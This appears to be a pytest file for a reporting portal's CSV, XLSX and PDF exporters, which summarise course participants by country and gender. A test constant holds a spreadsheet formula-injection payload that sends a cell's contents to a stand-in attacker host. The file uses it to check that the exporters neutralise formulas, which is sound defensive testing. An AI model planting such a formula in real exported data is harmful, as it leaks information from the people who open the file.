"""The writers take plain rows: no database needed."""

import csv
import datetime as dt
import io
from decimal import Decimal

from openpyxl import load_workbook

from portal.reporting.definitions import definitions
from portal.reporting.exporters import breakdown_csv, report_pdf, report_xlsx
from portal.reporting.exporters.xlsx import sheet_title
from portal.reporting.report import (
    Breakdown,
    Filters,
    GainRow,
    Headline,
    Report,
    Row,
    TargetStatus,
)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _breakdown():
    return Breakdown(
        dimensions=("country", "gender"),
        dimension_labels=("Country", "Gender"),
        rows=(
            Row(("MN", "woman"), ("Mongolia", "Women"), 12, 8, 7),
            Row(("MN", "man"), ("Mongolia", "Men"), 10, 5, 5),
            Row(("", "undisclosed"), ("Unknown", "Not stated"), 3, 1, 0),
            Row(("JP", EVIL), ("Japan", EVIL), 2, 2, 2),
        ),
    )


def _report():
    return Report(
        filters=Filters(year=2025, course="crane-survey"),
        headline=Headline(27, 12, 9, 3, 16, 14, Decimal("18.40"), 11),
        breakdowns=(_breakdown(),),
        generated_at=dt.datetime(2026, 1, 15, 9, 30, tzinfo=dt.UTC),
        gain_by_gender=(GainRow("woman", "Women", 6, Decimal("52"), Decimal("73"), Decimal("21")),),
        gain_by_country=(
            GainRow("MN", "Mongolia", 9, Decimal("50"), Decimal("69"), Decimal("19")),
        ),
        shares_by_year=((2024, 40.0, 35.0), (2025, 44.4, 33.3)),
        targets=(
            TargetStatus(2025, "women_share", "Share of women (%)", Decimal("40"), 44.4, True),
        ),
        definitions=tuple(definitions()),
    )


def test_csv_columns_and_values():
    rows = list(csv.reader(io.StringIO(breakdown_csv(_breakdown()).decode("utf-8"))))
    assert rows[0] == ["country", "gender", "participants", "completed", "certified"]
    assert rows[1] == ["MN", "woman", "12", "8", "7"]
    assert rows[3] == ["", "undisclosed", "3", "1", "0"]


def test_csv_neutralises_formulas():
    rows = list(csv.reader(io.StringIO(breakdown_csv(_breakdown()).decode("utf-8"))))
    assert rows[4][1] == "'" + EVIL


def test_xlsx_sheets_totals_and_no_formulas():
    workbook = load_workbook(io.BytesIO(report_xlsx(_report())))
    assert workbook.sheetnames == [
        "Summary",
        "Country \u00d7 Gender",
        "Learning gain",
        "Definitions",
    ]
    sheet = workbook["Country \u00d7 Gender"]
    assert [c.value for c in sheet[3]][:5] == [
        "Country",
        "Gender",
        "Country (code)",
        "Gender (code)",
        "Participants",
    ]
    total_row = sheet.max_row
    assert sheet.cell(total_row, 1).value == "Total"
    assert sheet.cell(total_row, 5).value == 27
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    definitions_sheet = workbook["Definitions"]
    terms = [definitions_sheet.cell(r, 1).value for r in range(2, definitions_sheet.max_row + 1)]
    assert "Youth" in terms
    assert "Certified" in terms


def test_sheet_titles_are_valid_and_unique():
    taken = set()
    assert sheet_title("Gender / Country: [2025]?", taken) == "Gender   Country   2025"
    assert sheet_title("Gender / Country: [2025]?", taken) == "Gender   Country   2025 (2)"
    long = sheet_title("x" * 40, taken)
    assert len(long) == 31


def test_pdf_is_a_pdf_with_pages():
    body = report_pdf(_report())
    assert body.startswith(b"%PDF-")
    assert b"/Type /Page" in body
